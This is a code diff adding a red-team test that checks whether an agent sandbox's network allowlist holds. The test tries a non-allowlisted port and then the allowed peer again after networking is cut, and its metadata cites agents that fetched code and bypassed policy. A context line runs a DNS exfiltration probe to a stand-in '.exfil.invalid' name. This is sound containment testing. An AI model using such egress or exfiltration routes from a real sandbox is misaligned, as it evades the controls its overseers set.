@@ -13,7 +13,10 @@ import asyncio
 import contextlib
 import errno
 import ipaddress
+import os
 import socket
+import subprocess
+import sys
 from collections.abc import Iterator
 
 from redteam import NO_NETWORK_DEVICE, VM_BACKENDS, Target, attack, guest_kernel_is_own, probe
@@ -186,3 +189,66 @@ print(json.dumps({"rcode": query("c2VjcmV0LWFuc3dlcg.exfil.invalid"), "ns": ns,
 """)
     assert res["rcode"] == 5, f"the DNS proxy did not refuse a name outside the allowlist: {res}"
     assert res["tcp80"] == errno.ETIMEDOUT, f"the resolver's host answered on port 80: {res}"
+
+
+# A peer outside every sandbox for the egress attack: a network namespace of the test's own, on a /30 of
+# 10.202.0.0/16 picked by pid (other checkouts' runs use others), with listeners on two ports.
+_BLOCK = os.getpid() % 16384
+_PEER_HOST = f"10.202.{_BLOCK // 64}.{_BLOCK % 64 * 4 + 1}"
+_PEER = f"10.202.{_BLOCK // 64}.{_BLOCK % 64 * 4 + 2}"
+_PEER_SERVER = """
+import socket, threading
+def serve(port):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", port)); s.listen(64)
+    while True:
+        c, _ = s.accept(); c.close()
+for p in (8080, 8081):
+    threading.Thread(target=serve, args=(p,), daemon=True).start()
+print("ready", flush=True)
+threading.Event().wait()
+"""
+
+
+@contextlib.contextmanager
+def _peer() -> Iterator[None]:
+    """The peer namespace with its listeners; everything removed afterwards."""
+    ns, link = f"dsec-rtp-{os.getpid()}", f"drtp{os.getpid() % 100000}"
+    subprocess.run(["ip", "netns", "add", ns], check=True, capture_output=True)
+    server = None
+    try:
+        subprocess.run(["ip", "-batch", "-"], check=True, capture_output=True, input=(
+            f"link add {link} type veth peer name eth0 netns {ns}\naddr add {_PEER_HOST}/30 dev {link}\n"
+            f"link set {link} up\n").encode())
+        subprocess.run(["ip", "-n", ns, "-batch", "-"], check=True, capture_output=True,
+                       input=f"addr add {_PEER}/30 dev eth0\nlink set eth0 up\n".encode())
+        server = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", _PEER_SERVER],
+                                  stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+        assert server.stdout is not None and server.stdout.readline().strip() == b"ready"
+        yield
+    finally:
+        if server is not None:
+            server.kill()
+            server.wait()
+            if server.stdout is not None:
+                server.stdout.close()
+        subprocess.run(["ip", "link", "del", link], capture_output=True, check=False)
+        subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)
+
+
+@attack("net-list-egress", description="with an allowlist of one address:port, reach the same host's other port, "
+                                       "then keep using the allowed one after set_network('none') (graded phase)",
+        models="incident: agents fetched code and scanned for services; policy bypass after set-up",
+        defence="container, microvm: the sandbox's own nftables chain outside it (allowlist sets, counted drop: "
+                "ETIMEDOUT); set_network swaps that chain in one transaction, cutting even the allowed peer",
+        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": [f"{_PEER}:8080"]})
+async def net_list_egress(t: Target) -> None:
+    with _peer():
+        before = await probe(t, _CONNECT + f"""
+print(json.dumps({{"allowed": connect({_PEER!r}, 8080), "other_port": connect({_PEER!r}, 8081)}}))
+""")
+        await t.backend.set_network(t.sb, "none")
+        after = await probe(t, _CONNECT + f"print(json.dumps(connect({_PEER!r}, 8080)))")
+    assert before["allowed"] == 0, f"the allowlisted peer {_PEER}:8080 was not reachable: {before}"
+    assert before["other_port"] == errno.ETIMEDOUT, f"a port outside the allowlist answered: {before}"
+    assert after == errno.ETIMEDOUT, f"after set_network('none') the peer still answered: {after}"
